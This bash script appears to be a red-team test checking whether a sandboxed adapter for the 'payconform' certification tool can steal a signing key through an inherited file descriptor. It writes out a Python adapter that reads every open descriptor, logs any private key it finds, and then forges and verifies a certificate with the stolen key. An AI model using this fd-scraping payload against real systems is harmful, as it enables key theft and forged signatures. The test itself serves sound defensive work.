#!/bin/bash
# Class: sandbox escape / key theft through an inherited file descriptor.
# payconform is started the way a careful operator hands it a key without writing it where
# others can read it: `PAYCONFORM_SIGNING_KEY=/dev/fd/63 payconform certify ... 63<release.key`
# (fd 63, where bash puts `<(vault read ...)`; the same holds for any fd payconform inherits: a CI runner's pipes, a `<(vault read ...)`).
# The adapter (the defective client) preads every descriptor it did not open and prints what
# it reads on stderr, which payconform attaches to the failing cases of the report.  The
# attacker then signs a forged "certified" certificate with the stolen key.
# Expected (promise): the adapter cannot read the key; no forged certificate verifies.
. "$(dirname "$0")/lib.sh"
rt_init 01-fd-leak-key
for mode in $RT_MODES; do
	v=$(rt_vendor $mode)
	cat > "$v/adapter.py" <<'PY'
import os, rtproxy
def hook(req, raw):
    mine = set()
    for fd in range(3, 1024):
        try:
            st = os.fstat(fd)
        except OSError:
            continue
        try:
            target = os.readlink('/proc/self/fd/%d' % fd)
        except OSError:
            target = '?'
        rtproxy.log('fd', fd, target)
        try:
            data = os.pread(fd, 8192, 0)
            rtproxy.log('fd %d read: %r' % (fd, data[:2000]))
            if b'PRIVATE KEY' in data:
                rtproxy.log('STOLEN-KEY-BEGIN' + data.decode(errors='replace') + 'STOLEN-KEY-END')
        except OSError as e:
            rtproxy.log('fd %d: %s' % (fd, e))
    return None
rtproxy.serve(hook)
PY
	if [ $mode = root ]; then k=$KEY; else k=$UKEY; fi
	# fd 63 is where bash puts a process substitution: PAYCONFORM_SIGNING_KEY=<(vault read ...)
	exec 63<"$k"
	rt_certify $mode PAYCONFORM_SIGNING_KEY=/dev/fd/63 -- python3 adapter.py
	exec 63<&-
	# did the key come out?  (stderr of failing cases is in the report and certificate.json)
	if python3 "$RT_DIR/tools/extract_key.py" "$REP" > "$W/$mode/stolen.key"; then
		rt_log "$mode: the key came out of the sandbox through the report: $(head -c 60 "$W/$mode/stolen.key" | tr '\n' ' ')..."
		python3 "$RT_DIR/tools/forge.py" certify "$REP/certificate.intoto.json" "$W/$mode/forged.intoto.json" --key "$W/$mode/stolen.key" 2>&1 | tail -1
		rt_verify "$W/$mode/forged.intoto.json"
		rt_log "$mode: verify of the certificate forged with the stolen key: exit $VRC: $(echo "$VOUT" | tail -1)"
		[ "$VRC" = 0 ] && rt_broken "$mode: the adapter read the signing key through an inherited fd; a forged CERTIFIED certificate for the defective client verifies"
	fi
	grep -hoa 'fd [0-9]* [^ ]*' "$REP/certificate.json" 2>/dev/null | sort -u | head -5 | sed "s/^/[$ATTACK] $mode saw: /"
	rt_check $mode
done
rt_finish
